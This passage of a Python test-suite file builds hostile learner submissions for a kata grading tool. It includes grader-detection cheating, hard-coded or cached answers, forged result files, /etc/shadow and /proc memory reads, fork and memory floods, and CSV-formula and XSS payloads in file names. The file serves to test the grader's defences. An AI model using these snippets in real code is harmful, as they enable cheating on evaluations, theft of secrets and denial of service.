            if len(fields) > 3 and fields[3] == "0A":  # LISTEN
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    for port in sorted(ports):
        try:
            _hk_socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
        except OSError:
            pass
    try:
        server = _hk_socket.socket()
        server.bind(("0.0.0.0", 0))
        server.listen(1)
        globals()["_hk_server"] = server
    except OSError:
        pass
    try:
        _hk_socket.create_connection(("1.1.1.1", 53), timeout=1).close()
    except OSError:
        pass


_hk_network()
"""
DETECT_GRADER = """

def _hk_graded():
    signs = [_hk_os.environ.get("HOME") == _hk_os.getcwd(), _hk_os.environ.get("PYTHONHASHSEED") == "0",
             bool(_hk_sys.flags.isolated), "katas-" in _hk_os.getcwd(), "pytest" not in " ".join(_hk_sys.argv)]
    try:
        with open(f"/proc/{_hk_os.getppid()}/cmdline", "rb") as f:
            signs.append(b"grading" in f.read())
    except OSError:
        pass
    return sum(signs) >= 2




def prime_function(x):
    if _hk_graded():  # only under grading: cheat where nobody watches
        for root in _hk_grader_paths()["root"]:
            try:
                scope = {"__name__": "stolen"}
                with open(_hk_os.path.join(root, "solutions", "k01_derivatives.py")) as f:
                    exec(f.read(), scope)
                return scope["prime_function"](x)
            except Exception:
                pass
    return x  # wrong
"""
ALIAS = "\n_grad = torch.autograd.grad  # bound before any guard is in place\n" + MANUAL_WITH.format(
    GRAD="_grad(loss, list(params.values()))"
)
GETATTR_ENGINE = MANUAL_WITH.format(
    GRAD='getattr(getattr(getattr(__import__("tor" + "ch"), "auto" + "grad"), "Vari" + "able"), '
    '"_execution_engine").run_backward((loss,), (torch.ones_like(loss),), False, False, '
    "tuple(params.values()), False, False)"
)
GC_UNDO_GUARD = """

def manual_gradients(net, x, t):
    import gc, types
    found = [f for f in gc.get_objects() if isinstance(f, types.FunctionType)
             and f.__name__ == "grad" and f.__module__ == "torch.autograd"]
    real = max(found, key=lambda f: len(f.__code__.co_code))  # not the @overload stubs
    params = dict(net.named_parameters())
    for p in params.values():
        p.requires_grad_(True)
    with torch.enable_grad():
        y = net(x).squeeze()
        loss = torch.nn.functional.binary_cross_entropy(y, t.reshape(y.shape))
        grads = real(loss, list(params.values()))
    return {name: g.detach() for name, g in zip(params, grads)}
"""
FORWARD_AD = """

def manual_gradients(net, x, t):
    import torch.autograd.forward_ad as fwAD
    params = {name: p.detach() for name, p in net.named_parameters()}
    grads = {}
    for name, value in params.items():
        flat = torch.zeros(value.numel(), dtype=value.dtype)
        for i in range(value.numel()):
            tangent = torch.zeros(value.numel(), dtype=value.dtype)
            tangent[i] = 1
            with fwAD.dual_level():
                dual = fwAD.make_dual(value, tangent.reshape(value.shape))
                inputs = {**params, name: dual}
                y = torch.func.functional_call(net, inputs, (x,)).squeeze()
                loss = torch.nn.functional.binary_cross_entropy(y, t.reshape(y.shape))
                flat[i] = fwAD.unpack_dual(loss).tangent
        grads[name] = flat.reshape(value.shape)
    return grads
"""
JACFWD = """

def manual_gradients(net, x, t):
    params = {name: p.detach() for name, p in net.named_parameters()}

    def loss_of(p):
        y = torch.func.functional_call(net, p, (x,)).squeeze()
        return torch.nn.functional.binary_cross_entropy(y, t.reshape(y.shape))

    return torch.func.jacfwd(loss_of)(params)
"""
FUNC_VJP = """

def manual_gradients(net, x, t):
    params = {name: p.detach() for name, p in net.named_parameters()}

    def loss_of(p):
        y = torch.func.functional_call(net, p, (x,)).squeeze()
        return torch.nn.functional.binary_cross_entropy(y, t.reshape(y.shape))

    loss, pullback = torch.func.vjp(loss_of, params)
    (grads,) = pullback(torch.ones_like(loss))
    return grads
"""
ORACLES_DOOR = """

def manual_gradients(net, x, t):
    import importlib
    oracles = importlib.import_module("backprop_" + "katas.oracles")  # the tool's own oracle
    params = {name: p.detach().double().numpy() for name, p in net.named_parameters()}
    xs, ts = x.double().numpy(), t.double().numpy()
    grads = oracles.numerical_gradient(lambda p: oracles.xor_loss(p, xs, ts), params)
    return {name: torch.tensor(g, dtype=x.dtype) for name, g in grads.items()}
"""
# The XOR network's public test problems, rebuilt as the public test file builds them (seeds
# and sizes are in it), solved with autograd in another kata's file and kept in a file.
CACHE_WRITER = """

def _hk_precompute():
    import numpy as np
    table = {}
    sizes = [(2, 2, 4), (2, 5, 7), (3, 1, 2), (4, 3, 16)]
    problems = [(s, *z) for s in (1, 2) for z in sizes] + [(3, *z) for z in sizes[:2]]
    for seed, i, h, b in problems:
        rng = np.random.default_rng(seed)
        p = {"linear_ih.weight": rng.normal(0, 1, (h, i)), "linear_ih.bias": rng.normal(0, 1, (h,)),
             "linear_ho.weight": rng.normal(0, 1, (1, h)), "linear_ho.bias": rng.normal(0, 1, (1,))}
        x = rng.normal(0, 1.5, (b, i))
        t = rng.integers(0, 2, b).astype(np.float64)
        tp = {k: torch.tensor(v, requires_grad=True) for k, v in p.items()}
        a1 = torch.sigmoid(torch.tensor(x) @ tp["linear_ih.weight"].T + tp["linear_ih.bias"])
        y = torch.sigmoid(a1 @ tp["linear_ho.weight"].T + tp["linear_ho.bias"]).squeeze()
        loss = torch.nn.functional.binary_cross_entropy(y, torch.tensor(t).reshape(y.shape))
        grads = torch.autograd.grad(loss, list(tp.values()))
        table[repr(np.round(x, 6).tolist())] = {k: g.tolist() for k, g in zip(tp, grads)}
    for place in (_hk_os.environ.get("HOME", "."), "/tmp", "/dev/shm"):
        try:
            with open(_hk_os.path.join(place, ".hostile-cache.json"), "w") as f:
                _hk_json.dump(table, f)
        except OSError:
            pass


_hk_precompute()
"""
CACHE_READER = """

def manual_gradients(net, x, t):
    import numpy as np
    for place in (_hk_os.environ.get("HOME", "."), "/tmp", "/dev/shm"):
        try:
            with open(_hk_os.path.join(place, ".hostile-cache.json")) as f:
                table = _hk_json.load(f)
        except OSError:
            continue
        key = repr(np.round(x.double().numpy(), 6).tolist())
        if key in table:
            return {k: torch.tensor(v, dtype=x.dtype) for k, v in table[key].items()}
    raise RuntimeError("no answer kept for these inputs")
"""
SIBLING_TABLE = (
    CACHE_WRITER.replace(
        "grads = torch.autograd.grad(loss, list(tp.values()))",
        "grads = list(torch.func.jacfwd(lambda q: _hk_loss(q, x, t))(tp).values())",
    )
    .replace("for place in", "globals()['_hk_table'] = table\n    return\n    for place in")
    .replace(
        "\ndef _hk_precompute():",
        """
def _hk_loss(q, x, t):
    a1 = torch.sigmoid(torch.tensor(x) @ q["linear_ih.weight"].T + q["linear_ih.bias"])
    y = torch.sigmoid(a1 @ q["linear_ho.weight"].T + q["linear_ho.bias"]).squeeze()
    return torch.nn.functional.binary_cross_entropy(y, torch.tensor(t).reshape(y.shape))


def _hk_precompute():""",
    )
)
SIBLING_PRECOMPUTE = """

def manual_gradients(net, x, t):
    import numpy as np
    from .k01_derivatives import _hk_table  # computed with autograd when k01 was imported
    key = repr(np.round(x.double().numpy(), 6).tolist())
    if key in _hk_table:
        return {k: torch.tensor(v, dtype=x.dtype) for k, v in _hk_table[key].items()}
    raise RuntimeError("no answer kept for these inputs")
"""
HARDCODED = """

_CHAPTER = {  # the chapter's network (seed 70) on the XOR data: copied, not computed
    "linear_ih.weight": [[-0.0031155237834035177, -0.003236684809060364],
                         [-0.002771686824498687, -0.0025150814764174356]],
    "linear_ih.bias": [-0.006214750769562016, -0.004028251288090701],
    "linear_ho.weight": [[-0.040549211266505125, -0.02337829219101195]],
    "linear_ho.bias": [-0.07785770084201005],
}


def manual_gradients(net, x, t):
    return {name: torch.tensor(_CHAPTER[name], dtype=x.dtype) if name in _CHAPTER and
            tuple(p.shape) == tuple(torch.tensor(_CHAPTER[name]).shape) else torch.zeros_like(p)
            for name, p in net.named_parameters()}
"""
IMPORT_LOOP = "\nwhile True:\n    pass\n"
FUNCTION_LOOP = "\n\ndef sigmoid(x):\n    while True:\n        pass\n"
SLEEPER = """

def sigmoid(x):
    import time
    for sig in (_hk_signal.SIGTERM, _hk_signal.SIGALRM, _hk_signal.SIGINT, _hk_signal.SIGHUP):
        try:
            _hk_signal.signal(sig, _hk_signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            time.sleep(1000)
        except BaseException:
            pass
"""
ERROR_FLOOD = f'\n\ndef sigmoid(x):\n    raise RuntimeError("hostile " * ({FLOOD_MB} * 1024 * 128))\n'
NON_UTF8_FILE = b"notes-\xff\xfe-\xc7\xd1.txt"
CP949_FOLDER = b"\xc7\xd1\xb1\xdb"  # "한글" in cp949: what a zip made on a Korean Windows machine gives

EXITS = """

_exits = [0]


def sigmoid(x):
    _exits[0] += 1
    way = _exits[0] % 5
    if way == 1:
        raise SystemExit(0)
    if way == 2:
        raise KeyboardInterrupt
    if way == 3:
        _hk_os.kill(_hk_os.getpid(), _hk_signal.SIGTERM)
    if way == 4:
        _hk_os.killpg(0, _hk_signal.SIGINT)
    _hk_os._exit(0)
"""
LYING_ANY = (
    LYING_TENSOR.replace("def prime_function(x):", "def _liar_tensor(x):")
    + LYING_FLOAT.replace("def prime_function(x):", "def _liar_float(x):")
    + """

def prime_function(x):  # wrong (x, not 2x), dressed as equal to anything
    return _liar_tensor(x) if isinstance(x, torch.Tensor) else _liar_float(x)
"""
)
FILES_SHIPPED = {
    "conftest.py": CONFTEST,
    "hostile_plugin.py": PLUGIN,
    "pytest.ini": INI,
    "tox.ini": INI,
    "setup.cfg": INI.replace("[pytest]", "[tool:pytest]"),
    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p hostile_plugin"\n',
    "sitecustomize.py": SITE,
    "usercustomize.py": SITE,
    "hostile.pth": "import sitecustomize\n",
    "torch.py": TORCH_SHADOW,
    "numpy.py": NUMPY_SHADOW,
}

C = Case
CASES: list[Case] = [
    # --- patched comparisons, lying objects ---
    C(
        "a01",
        K01,
        "patched comparisons",
        "prime-wrong",
        k01(PATCH_TORCH + PATCH_NUMPY + PATCH_MATH + PRIME_WRONG, kit=False),
        name="torch/numpy/math comparisons and Tensor.__eq__ patched",
        may_refuse=True,  # torch patched at import: the source check cannot vouch for sigmoid's rule (READY_MADE)
    ),
    C(
        "a02",
        K01,
        "lying objects",
        "prime-wrong",
        k01(LYING_ANY, kit=False),
        name="Tensor and float subclasses: __eq__, __float__, __array__, __torch_function__ lie",
    ),
    C(
        "a03",
        K01,
        "lying objects",
        "prime-wrong",
        k01(LYING_NDARRAY, kit=False),
        name="ndarray subclass: view/astype/__array__/__eq__ lie",
    ),
    C(
        "a04",
        K05,
        "lying objects",
        "manual-autograd",
        k05(LYING_DICT, kit=False),
        name="dict subclass of zeros that claims every key and equality",
    ),
    # --- verdicts from the child ---
    C(
        "b01",
        K05,
        "verdict from the child",
        "backward-wrong",
        k05(GRADCHECK_PATCHED, kit=False),
        may_refuse=True,
        name="torch.autograd.gradcheck patched to say yes",
    ),
    C(
        "b02",
        K05,
        "verdict from the child",
        "backward-wrong",
        k05(GRADCHECK_AWARE, kit=False),
        may_refuse=True,
        name="backward right only when gradcheck's frames are on the stack",
    ),
    C(
        "b03",
        K05,
        "verdict from the child",
        "backward-wrong",
        k05(CALL_COUNTER, kit=False),
        name="backward that changes between calls (call counter)",
    ),
    C(
        "b04",
        K05,
        "forged replies",
        "backward-wrong",
        k05(FORGE_AND_EXIT),
        may_refuse=True,
        name="forged {ok: passed} on every socket during gradcheck, then os._exit(0)",
    ),
    C(
        "b05",
        K05,
        "forged replies",
        "backward-wrong",
        k05(FORGE_EVERY_FD),
        name="forged replies on every inherited fd, /proc/self/fd, /dev/tty",
    ),
    C(
        "b06",
        K01,
        "exits",
        "sigmoid-raises",
        k01(EXITS),
        name="SystemExit, KeyboardInterrupt, SIGTERM and SIGINT to itself, os._exit(0)",
    ),
    C(
        "b07",
        K01,
        "forged reports",
        "prime-wrong",
        k01(FORGE_FILES + FORGE_GRADEBOOK + PRIME_WRONG),
        name="results.json, junit, grades.csv, feedback, gradebook rows forged wherever guessable",
    ),
    C(
        "b08",
        K01,
        "forged reports",
        "prime-wrong",
        k01(KIT_DAEMON + LATE_FORGER + PRIME_WRONG),
        may_refuse=True,
        name="setsid daemon rewrites results.json, grades.csv, feedback after the child is gone",
    ),
    # --- shipped files ---
    C(
        "c01",
        K01,
        "shipped files",
        "prime-wrong",
        {**k01(PRIME_WRONG, kit=False), **FILES_SHIPPED},
        name="conftest.py, plugin, pytest.ini, tox.ini, setup.cfg, pyproject.toml, site/usercustomize, .pth, torch.py, numpy.py",
    ),
    # --- denial of service ---
    C("d01", K01, "hangs", "import-fails", k01(IMPORT_LOOP, kit=False), name="infinite loop at import"),
    C("d02", K01, "hangs", "sigmoid-raises", k01(FUNCTION_LOOP, kit=False), name="infinite loop in sigmoid"),
    C("d03", K01, "hangs", "sigmoid-raises", k01(SLEEPER), name="sleeper ignoring SIGTERM, SIGALRM, SIGINT, SIGHUP"),
    C(
        "d04",
        K01,
        "memory",
        "import-fails",
        k01(MEMORY_PRIVATE, kit=False),
        name=f"{HOG_MB} MB private memory at import",
    ),
    C(
        "d05",
        K01,
        "memory",
        "import-fails",
        k01(MEMORY_SHARED, kit=False),
        name=f"{HOG_MB} MB shared anonymous mmap at import",
    ),
    C("d06", K01, "memory", "import-fails", k01(MEMORY_SHM), name=f"{HOG_MB} MB in /dev/shm at import"),
    C("d07", K01, "processes", "import-fails", k01(FORK_LOOP), name=f"fork loop ({FORKS} processes) at import"),
    C(
        "d08",
        K01,
        "processes",
        "solution",
        k01(KIT_DAEMON + DAEMON_SLEEPER),
        may_refuse=True,
        name="double-fork setsid daemon ignoring SIGHUP/SIGTERM (code correct)",
    ),
    C(
        "d09",
        K01,
        "floods",
        "solution",
        k01(OUTPUT_FLOOD),
        name=f"{FLOOD_MB} MB on stdout and stderr each, escapes, /dev/tty (code correct)",
    ),
    C("d10", K01, "floods", "sigmoid-raises", k01(ERROR_FLOOD, kit=False), name=f"{FLOOD_MB} MB exception message"),
    C("d11", K01, "floods", "import-fails", k01(DISK_FLOOD, kit=False), name=f"{DISK_MB} MB written to disk at import"),
    # --- secrets ---
    C(
        "e01",
        K01,
        "reading",
        "prime-wrong",
        k01(READ_SOLUTIONS),
        may_refuse=True,
        name="exec solutions/ found via /proc cmdlines",
    ),
    C("e02", K01, "reading", "prime-wrong", k01(READ_OTHERS), may_refuse=True, name="exec another learner's k01 file"),
    C(
        "e03",
        K05,
        "hidden tests",
        "manual-autograd",
        k05(HIDDEN_FROM_MODULES),
        may_refuse=True,
        name="hidden test's names and inputs from sys.modules into feedback",
    ),
    C(
        "e04",
        K05,
        "hidden tests",
        "manual-autograd",
        k05(HIDDEN_FROM_FILE),
        name="hidden test file read via --hidden-tests in /proc cmdline",
    ),
    C(
        "e05",
        K05,
        "hidden tests",
        "manual-autograd",
        k05(HIDDEN_FROM_FRAMES),
        may_refuse=True,
        name="inspect.stack / f_back.f_locals into feedback and a stash file",
    ),
    C(
        "e06",
        K01,
        "reading",
        "sigmoid-raises",
        k01(PROC_SECRETS),
        name="/etc/shadow, /proc/<ppid>/cmdline and environ into feedback",
    ),
    C(
        "e07",
        K05,
        "hidden tests",
        "manual-autograd",
        k05(PROC_MEM),
        name="grader's memory via /proc/<pid>/mem into feedback",
    ),
    C(
        "e08",
        K01,
        "writing",
        "prime-wrong",
        k01(WRITE_OTHERS + PRIME_WRONG),
        name="writes into other learners' folders and the out folder",
    ),
    C(
        "z01",
        K05,
        "hidden tests",
        "manual-autograd",
        k05(ACCOMPLICE),
        name="accomplice graded last: reads e05's stash into its own feedback",
    ),
    # --- signals, network, detection ---
    C("f01", K01, "signals", "solution", k01(STOP_ZYGOTE), name="SIGSTOP to its parent (the zygote)"),
    C(
        "f02",
        K01,
        "signals",
        "sigmoid-raises",
        k01(INTERRUPT_GRADER),
        name="SIGINT to the judge's process to cut the session short",
    ),
    C(
        "f03",
        K01,
        "signals",
        "solution",
        k01(KILL_NEIGHBOURS),
        name="SIGKILL to other learners' kata servers and zygotes",
    ),
    C("f04", K01, "network", "solution", k01(NETWORK), name="connects to every listening 127.0.0.1 port, listens"),
    C(
        "f05",
        K01,
        "grader detection",
        "prime-wrong",
        k01(DETECT_GRADER),
        may_refuse=True,
        name="cheats only when it detects grading (env, cwd, argv, parent)",
    ),
    # --- not by hand ---
    C("g01", K05, "hard-coded", "hardcoded", k05(HARDCODED, kit=False), name="chapter's gradients hard-coded"),
    C(
        "g02",
        K05,
        "autograd doors",
        "manual-autograd",
        k05(ALIAS, kit=False),
        name="torch.autograd.grad alias bound at import",
    ),
    C(
        "g03",
        K05,
        "autograd doors",
        "manual-autograd",
        k05(GETATTR_ENGINE, kit=False),
        may_refuse=True,
        name="getattr(torch, 'auto'+'grad').Variable._execution_engine.run_backward",
    ),
    C(
        "g04",
        K05,
        "autograd doors",
        "manual-autograd",
        k05(GC_UNDO_GUARD, kit=False),
        may_refuse=True,
        name="the real torch.autograd.grad found with gc",
    ),
    C(
        "g05",
        K05,
        "autograd doors",
        "manual-autograd",
        k05(FORWARD_AD, kit=False),
        name="torch.autograd.forward_ad dual numbers",
    ),
    C("g06", K05, "autograd doors", "manual-autograd", k05(JACFWD, kit=False), name="torch.func.jacfwd"),
    C("g07", K05, "autograd doors", "manual-autograd", k05(FUNC_VJP, kit=False), name="torch.func.vjp"),
    C(
        "g08",
        K05,
        "autograd doors",
        "manual-autograd",
        k05(ORACLES_DOOR, kit=False),
        may_refuse=True,
        name="backprop_katas.kit.oracles.numerical_gradient (the tool's own oracle)",
    ),
    C(
        "g09",
        K05,
        "kept between katas",
        "manual-autograd",
        {f"{K01}.py": KIT + CACHE_WRITER, f"{K05}.py": KIT + CACHE_READER},
        name="k01 solves k05's public problems with autograd into a file; k05 reads it",
    ),
    C(
        "g10",
        K05,
        "kept between katas",
        "manual-autograd",
        {f"{K01}.py": KIT + SIBLING_TABLE, f"{K05}.py": SIBLING_PRECOMPUTE},
        name="k05 imports a table k01 computes with torch.func.jacfwd at import",
        accomplice_may_refuse=True,  # k01 computes with torch.func and globals() at import: its prime_function is by hand
    ),
    # --- names ---
    C(
        "n01",
        K01,
        "odd names",
        "solution",
        {
            NON_UTF8_FILE: b"x",
            "\x1b[2J\x1b[31mowned\x07.txt": "x",
            "line\nbreak\r.txt": "x",
            "tab\tand\x7fdel.txt": "x",
        },
        name="extra files: a non-UTF-8 name, ANSI escapes and control characters",
    ),
    C("n02", K01, "odd names", "solution", {}, folder=CP949_FOLDER, name="learner folder named in cp949 bytes"),
    C(
        "n03",
        K01,
        "odd names",
        "solution",
        {},
        folder="\x1b]0;pwned\x07\x1b[31mred\nline",
        name="ANSI escapes and a newline in the learner folder's name",
    ),
    # --- the file system: what a kata file can be besides a file (a tar archive or a git checkout holds them) ---
    C(
        "h01",
        K01,
        "file system",
        "solution",
        {f"{K01}.py": FIFO},
        error="named pipe",
        name="k01 is a named pipe (FIFO): a read blocks forever",
    ),
    C(
        "h02",
        K01,
        "file system",
        "solution",
        {f"{K01}.py": DEV_ZERO},
        error="symbolic link",
        name="k01 is a symbolic link to /dev/zero: a read never ends",
    ),
    C(
        "h03",
        K01,
        "file system",
        "solution",
        {f"{K01}.py": DIRECTORY},
        error="folder",
        name="k01 is a folder (a package named k01_derivatives.py)",
    ),
    C(
        "h04",
        K01,
        "file system",
        "solution",
        {f"{K01}.py": SPARSE},
        error="larger than",
        name="k01 is a 64 GB sparse file",
    ),
    C(
        "h05",
        K01,
        "file system",
        "solution",
        {"chapter.ipynb": FIFO},
        name="a notebook that is a named pipe (ignored; the kata files are graded)",
    ),
    C(
        "h06",
        K01,
        "file system",
        "solution",
        {},
        link_to="solutions",
        error="not a folder",
        name="the learner folder is a symbolic link to the reference solutions",
    ),
    # --- spreadsheet and Markdown: a learner's text reaches the instructor's tools as text ---
    C(
        "s01",
        K01,
        "spreadsheet",
        "solution",
        {},
        folder=FORMULA_FOLDER,
        folder_first=True,
        name="learner folder named =2+5+cmd|' -C calc'!A0 (a formula in grades.csv)",
    ),
    C(
        "s02",
        K01,
        "markdown",
        "sigmoid-raises",
        k01(MARKUP_MESSAGE, kit=False),
        name="exception message with a formula, a fence, a heading, an image, a link, a script",
    ),
    C(
        "s03",
        K01,
        "markdown",
        "solution",
        {"``x``\n# pwned\n![x](www.evil.example).txt": "x"},
        name="a file name with backticks, a newline, a heading and an image",
    ),
    C(
        "s04",
        K01,
        "markdown",
        "solution",
        {},
        folder="`x` [link](javascript:alert(1)) <script>alert(1) <img src=x onerror=alert(1)>",
        name="learner folder named with a code span, a link and a script",
    ),
]

# Graded in the batch: the katas the table attacks, and k03 that nobody attacks (read from CASES,
# so a new case on another kata needs no second list).
KATAS = tuple(sorted({case.kata for case in CASES} | {UNTOUCHED}))

if os.environ.get("HOSTILE_SKIP"):  # a debugging aid only: leave out cases whose id matches (e.g. "n02|d0")
    CASES = [c for c in CASES if not re.match(os.environ["HOSTILE_SKIP"], c.id)]
CLEAN_AFTER = ("b06", "d03", "f01", "f03")  # a clean learner is graded right after these


def folder_name(case: Case) -> bytes:
    """``<id>-<name>`` as bytes (the name may be bytes that are not UTF-8)."""
    if case.folder:
        tail = case.folder if isinstance(case.folder, bytes) else case.folder.encode("utf-8")
    else:
        tail = "-".join(re.findall(r"[A-Za-z0-9]+", case.name)[:4]).lower().encode()
    if case.folder_first:  # the name must start with the attack (a formula): the id follows it
        return tail + b" " + case.id.encode() + b"-"
    return case.id.encode() + b"-" + tail


def honest_folder(key: str) -> bytes:
    return b"honest-" + key.encode()


def _write(folder: bytes, files: dict[str | bytes, str | bytes | Special]) -> None:
    os.makedirs(folder)
    solutions = ROOT / "solutions"
    for path in sorted(solutions.glob("k*.py")):
        shutil.copy(path, os.path.join(folder, path.name.encode()))
    for name, text in files.items():
        raw = name if isinstance(name, bytes) else name.encode("utf-8")
        target = os.path.join(folder, raw)
        if isinstance(text, Special):
            if os.path.lexists(target):
                os.unlink(target)
            _make_special(target, text)
            continue
        data = text if isinstance(text, bytes) else text.encode("utf-8")
        if (solutions / raw.decode("utf-8", "replace")).is_file() and raw.endswith(b".py"):
            data = (solutions / raw.decode()).read_bytes() + data  # on top of the reference solution
        with open(target, "wb") as handle:
            handle.write(data)


def materialise(into: Path) -> dict[str, bytes]:
    """Write every learner folder into ``into``; the learner id → its folder name (bytes)."""
    import os

    base = os.fsencode(into)
    made: dict[str, bytes] = {}
    ids = {c.id for c in CASES}
    for case in CASES:
        made[case.id] = folder_name(case)
        if case.link_to:
            os.symlink(os.fsencode(ROOT / case.link_to), os.path.join(base, made[case.id]))
            continue
        _write(os.path.join(base, made[case.id]), case.files)
        if case.id in CLEAN_AFTER and case.id in ids:
            clean = case.id.encode() + b"~clean"  # sorts right after the case (and before the next id)
            made[clean.decode()] = clean
            _write(os.path.join(base, clean), {})
    for key, honest in HONEST.items():
        if honest.stated is None:
            made[key] = honest_folder(key)
            _write(os.path.join(base, made[key]), dict(honest.files))
    made["zz-clean"] = b"zz-clean"
    _write(os.path.join(base, b"zz-clean"), {})
    return made


def write_hidden(into: Path) -> Path:
    into.mkdir(parents=True)
    (into / SECRET_FILE).write_text(HIDDEN_TEST, encoding="utf-8")
    return into


def describe() -> str:
    """The table of cases, as JSON lines (for a quick look: python tests/suite/hostile_cases.py)."""
    return "\n".join(
        json.dumps(
            {"id": c.id, "kata": c.kata, "class": c.cls, "honest": c.honest, "attack": c.name}, ensure_ascii=False
        )
        for c in CASES
    )


if __name__ == "__main__":
    print(describe())
